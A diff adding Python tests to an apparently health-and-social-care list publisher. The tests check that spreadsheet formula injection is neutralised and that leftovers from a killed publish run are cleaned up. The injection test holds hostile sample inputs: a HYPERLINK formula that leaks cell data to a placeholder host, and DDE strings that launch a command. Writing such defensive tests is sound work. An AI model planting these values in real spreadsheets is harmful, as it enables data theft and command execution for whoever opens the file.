@@ -679,6 +679,26 @@ def test_text_is_escaped(tmp_path: Path) -> None:
             assert "<script>alert" not in text and "<MDT>" not in text, path
 
 
+def test_spreadsheet_formulas_are_neutralised(tmp_path: Path) -> None:
+    # Text from outside riskstrat's control: a team name in the reference data, a name in a team's key.
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    team_list = _team_list().with_columns(
+        team_name=pl.lit("@SUM(1+1)*cmd|' /C calc'!A0"), social_care_package=pl.lit("+cmd|' /C calc'!A0")
+    )
+    key = _reidentification()["T1"].with_columns(name=pl.lit(evil))
+    _publish(tmp_path, team_list=team_list, reidentification={"T1": key})
+    root = tmp_path / AS_OF.isoformat()
+    listed = pl.read_csv(root / "teams/T1/T1_list.csv", infer_schema=False)
+    assert set(listed["name"]) == {"'" + evil}
+    assert set(listed["team_name"]) == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert set(listed["social_care_package"]) == {"'+cmd|' /C calc'!A0"}
+    assert pl.read_csv(root / "teams/T1/T1_list.csv")["rank"].to_list() == [1, 2, 3]  # numbers stay numbers
+    workbook = openpyxl.load_workbook(root / "teams/T1/T1_list.xlsx")
+    cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert evil in [c.value for c in cells]  # shown as the text it is, never run
+
+
 def test_unsafe_person_id_is_refused_before_anything_is_written(tmp_path: Path) -> None:
     team_list = _team_list().with_columns(
         person_id=pl.when(pl.col("rank") == 1).then(pl.lit("../escape")).otherwise(pl.col("person_id"))
@@ -724,6 +744,25 @@ def test_failed_first_publish_leaves_no_folder(tmp_path: Path, monkeypatch: pyte
     with pytest.raises(RuntimeError):
         _publish(tmp_path)
     assert list(tmp_path.iterdir()) == []
+
+
+def test_leftovers_of_a_killed_publish_are_put_right_at_the_next(tmp_path: Path) -> None:
+    # Killed while writing: a hidden staging folder holding a person's page.
+    half = tmp_path / f".{AS_OF.isoformat()}.tmp-k1ll3d_"
+    (half / "teams/T1/people").mkdir(parents=True)
+    (half / "teams/T1/people/frail_90_with_homecare.html").write_text("half written")
+    # Killed between the two renames: last week's run moved aside and never put back.
+    last_week = (AS_OF - timedelta(weeks=1)).isoformat()
+    aside = tmp_path / f".{last_week}.old-0a1b2c3d"
+    aside.mkdir()
+    (aside / "manifest.json").write_text("{}")
+    # A run moved aside after its replacement was in place: only the deletion was missed.
+    (tmp_path / "2026-11-09").mkdir()
+    (tmp_path / ".2026-11-09.old-99999999").mkdir()
+    _publish(tmp_path)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["2026-11-09", last_week, AS_OF.isoformat()]
+    assert (tmp_path / last_week / "manifest.json").read_text() == "{}"
+    assert (tmp_path / AS_OF.isoformat() / "manifest.json").exists()
 
 
 def test_rerun_replaces_the_folder(tmp_path: Path) -> None:
